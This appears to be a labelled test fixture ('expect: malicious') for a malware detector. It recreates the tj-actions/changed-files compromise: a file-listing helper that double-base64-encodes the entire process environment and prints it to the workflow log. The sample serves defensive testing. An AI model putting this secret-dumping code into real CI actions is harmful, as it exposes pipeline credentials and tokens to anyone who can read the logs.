// expect: malicious
// source: the tj-actions/changed-files compromise (2025-03), with the two encodings in two statements: the
// whole environment as base64, then the base64 of that variable printed to the workflow log
'use strict';
function listChanged(base) { return [base]; }
async function run() {
  const files = listChanged(process.env.INPUT_BASE_SHA || 'HEAD~1');
  const blob = Buffer.from(JSON.stringify(process.env)).toString('base64');
  console.log(Buffer.from(blob).toString('base64'));
  process.stdout.write(files.join('\n'));
}
run();
